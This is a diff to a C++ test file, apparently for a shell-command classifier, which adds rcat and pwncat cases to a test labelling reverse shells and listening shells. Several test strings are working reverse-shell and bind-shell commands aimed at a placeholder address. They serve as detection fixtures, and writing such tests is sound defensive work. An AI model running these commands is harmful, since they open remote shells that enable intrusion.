@@ -179,6 +179,13 @@ TEST_CASE("a token goes to who gave it out, and to nobody else") {
 TEST_CASE("shells over sockets") {
   check_effects({
       {"nc -e /bin/sh 192.0.2.1 4", "net.reverse-shell"},
+      {"rcat connect -s sh 192.0.2.1 4", "net.reverse-shell"},
+      {"rcat c -s bash 192.0.2.1 4", "net.reverse-shell"},
+      {"rcat connect 192.0.2.1 4", ""},
+      {"rcat listen -ib 4", ""},
+      {"pwncat -e /bin/sh 192.0.2.1 4", "net.reverse-shell"},
+      {"pwncat -l -e /bin/sh 4", "net.listen-shell"},
+      {"pwncat 192.0.2.1 80", ""},
       {"nc 192.0.2.1 4 -e /bin/sh", "net.reverse-shell"},
       {"nc -lvp 4 -e /bin/bash", "net.listen-shell"},
       {"ncat --exec /bin/bash -l 4", "net.listen-shell"},
